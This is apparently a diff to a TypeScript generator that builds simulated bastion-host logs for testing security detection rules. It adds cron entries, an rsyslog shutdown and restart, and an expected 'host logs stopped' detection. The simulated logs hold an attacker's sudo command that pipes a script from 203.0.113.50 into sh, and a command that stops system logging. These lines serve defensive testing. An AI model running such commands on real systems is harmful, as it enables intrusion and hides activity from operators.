@@ -324,8 +324,21 @@ function web(tl: Timeline, expect: ExpectedDetection[]): void {
 
 function bastion(tl: Timeline, expect: ExpectedDetection[]): void {
   const r = tl.rnd;
+  // The host's hourly cron run, logged while its syslog daemon runs: until the intruder stops it
+  // (03:44), and again from when the on-call starts it (09:05).
+  const cronRun = (h: number) =>
+    tl.sshd(
+      tl.base + h * 60 * MIN + 17 * MIN + 1000,
+      `CRON[${r.int(10000, 30000)}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`,
+    );
+  for (let h = 0; h < 4; h++) cronRun(h);
+  for (let h = 9; h < 24; h++) cronRun(h);
+  tl.sshd(
+    tl.base + 9 * 60 * MIN + 5 * MIN,
+    'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="811" x-info="https://www.rsyslog.com"] start',
+  );
   // Benign: deploys from the CI runner with a key, and routine sudo.
-  for (let h = 8; h < 18; h += 2) {
+  for (let h = 10; h < 18; h += 2) {
     const t = tl.base + h * 60 * MIN + r.int(0, 600_000);
     tl.sshd(
       t,
@@ -348,7 +361,14 @@ function bastion(tl: Timeline, expect: ExpectedDetection[]): void {
     t0 + 3 * MIN,
     'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash -c curl -s http://203.0.113.50/x.sh | sh',
   );
+  // The script stops the host's logging: nothing more from bastion-1 until 09:05.
+  tl.sshd(t0 + 4 * MIN, 'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl stop rsyslog');
+  tl.sshd(
+    t0 + 4 * MIN + 200,
+    'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="811" x-info="https://www.rsyslog.com"] exiting on signal 15.',
+  );
   expect.push(
+    { ruleId: 'integrity.host_logs_stopped', entity: 'bastion-1' },
     { ruleId: 'ssh.auth_failures', entity: '203.0.113.50' },
     { ruleId: 'ssh.root_login_attempt', entity: '203.0.113.50' },
     { ruleId: 'ssh.success_after_failures', entity: '203.0.113.50' },
